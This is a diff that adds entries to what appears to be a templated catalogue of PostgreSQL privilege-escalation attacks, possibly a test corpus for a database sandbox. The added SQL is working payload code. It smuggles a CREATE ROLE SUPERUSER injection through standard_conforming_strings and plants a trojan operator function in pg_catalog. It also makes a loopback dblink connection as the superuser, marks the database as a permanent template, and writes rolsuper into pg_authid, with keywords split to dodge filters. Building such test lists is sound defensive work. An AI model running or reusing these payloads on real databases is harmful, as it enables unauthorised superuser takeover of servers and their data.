@@ -51,6 +51,35 @@ DROP EVENT TRIGGER l;
 DROP EVENT TRIGGER e;
 DROP EXTENSION {extension};
 
+-- # an event trigger and something that is called as it
+CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION e();
+CREATE PUBLICATION event FOR ALL TABLES;
+DROP PUBLICATION event;
+DROP EVENT TRIGGER e;
+
+-- # strings are read otherwise by the next session of the database
+DO $$ BEGIN EXECUTE 'ALTER DATA' || 'BASE ' || current_database() || ' SET standard_conforming_strings = off'; PERFORM set_config('standard_conforming_' || 'strings', 'off', false); END $$;
+COMMENT ON EXTENSION plpgsql IS '\''; COMMIT; CREATE ROLE {pwn} SUPERUSER; --';
+CREATE EXTENSION IF NOT EXISTS plpgsql VERSION '\''; COMMIT; CREATE ROLE {pwn}; --';
+SET standard_conforming_strings = on;
+
+-- # operators become a part of an extension, and move to pg_catalog with it
+CREATE FUNCTION public.nre(name, name) RETURNS bool LANGUAGE plpgsql COST 0.0001 AS $$ BEGIN IF current_setting('is_superuser') = 'on' THEN EXECUTE 'CREATE R' || 'OLE {pwn} SUPERUSER'; END IF; RETURN true; END $$;
+CREATE OPERATOR public.!~ (FUNCTION = public.nre, LEFTARG = name, RIGHTARG = name);
+CREATE EXTENSION {extension};
+ALTER EXTENSION {extension} ADD OPERATOR public.!~ (name, name);
+ALTER EXTENSION {extension} SET SCHEMA pg_catalog;
+CREATE PUBLICATION zz FOR ALL TABLES;
+DROP EXTENSION {extension};
+CREATE EXTENSION {extension} SCHEMA pg_catalog;
+
+-- # default privileges of the role that makes extensions
+ALTER DEFAULT PRIVILEGES FOR ROLE {superuser} GRANT EXECUTE ON FUNCTIONS TO PUBLIC;
+CREATE EXTENSION dblink;
+SELECT dblink_connect_u('c', format('host=127.0.0.1 port=%s user={superuser} dbname=postgres', current_setting('port')));
+SELECT dblink_exec('c', 'CREATE ROLE {pwn}');
+DROP EXTENSION dblink;
+
 -- # functions and operators lie in wait on the search path
 CREATE SCHEMA trap;
 CREATE FUNCTION trap.format(text, VARIADIC text[]) RETURNS text LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'CREATE R' || 'OLE {pwn}'; RETURN 'SELECT 1'; END $$;
@@ -220,6 +249,9 @@ SELECT pg_create_restore_point('x');
 -- # a subscription
 CREATE SUBSCRIPTION {pwn} CONNECTION 'dbname={victim}' PUBLICATION p WITH (connect = false);
 DO $$ BEGIN EXECUTE 'CREATE SUB' || 'SCRIPTION {pwn} CONNECTION ''dbname={victim}'' PUBLICATION p WITH (connect = false)'; END $$;
+
+-- # the database is kept for ever
+DO $$ BEGIN EXECUTE 'ALTER DATA' || 'BASE ' || quote_ident(current_database()) || ' IS_TEMPLATE true'; END $$;
 
 -- # the catalog of the roles is written
 DO $$ BEGIN EXECUTE 'UPDATE pg_auth' || 'id SET rolsuper = true'; END $$;
